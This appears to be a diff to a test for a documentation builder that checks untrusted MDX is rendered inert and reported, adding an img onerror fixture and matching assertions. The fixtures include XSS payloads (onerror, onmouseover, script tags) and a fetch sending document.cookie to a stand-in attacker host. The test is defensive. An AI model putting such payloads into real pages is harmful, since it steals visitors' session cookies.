@@ -175,6 +175,12 @@ Text {fetch("https://evil.example/" + document.cookie)} and `{kept in code}`.
 <div onmouseover="steal()">hover</div>
 </CardGroup>
 
+<img
+  src="pic.png"
+  onerror="steal()"
+  alt="a tag over several lines"
+/>
+
 <script>steal()</script>
 
 See <Link href="other.md">the other page</Link>.
@@ -201,7 +207,7 @@ def test_untrusted_mdx_is_inert_and_reported(tmp_path: Path, cache_dir: Path) ->
     done = _cli(docs, "build", "--out", str(tmp_path / "out"))
     assert done.returncode == 0, done.stderr
     page = (tmp_path / "out" / "diffusion" / "hostile.md").read_text()
-    for bad in ("import {", "export const", "onClick", "onmouseover", "javascript:",
+    for bad in ("import {", "export const", "onClick", "onmouseover", "onerror", "javascript:",
                 "<script>", "icon:", "openapi", "evil.example/track"):
         assert bad not in page, bad
     assert "Text \\{fetch(" in page  # an expression becomes literal text
@@ -212,7 +218,8 @@ def test_untrusted_mdx_is_inert_and_reported(tmp_path: Path, cache_dir: Path) ->
     assert '<Link href="/diffusion/other">the other page</Link>' in page  # a component
     assert 'title: "Hostile"' in page or "title: Hostile" in page
     lines = HOSTILE.splitlines()
-    for needle in ("import {", "export const", "Text {", "onClick", "<script>", "icon:"):
+    assert '.png"\n  alt="a tag over several lines"\n/>\n\n' in page  # a tag over lines
+    for needle in ("import {", "export const", "Text {", "onClick", "<script>", "icon:", "<img"):
         line = next(i for i, text in enumerate(lines, 1) if needle in text)
         assert f"docs/hostile.md:{line}:" in done.stderr, (needle, done.stderr)
     assert "javascript: links are not allowed" in done.stderr
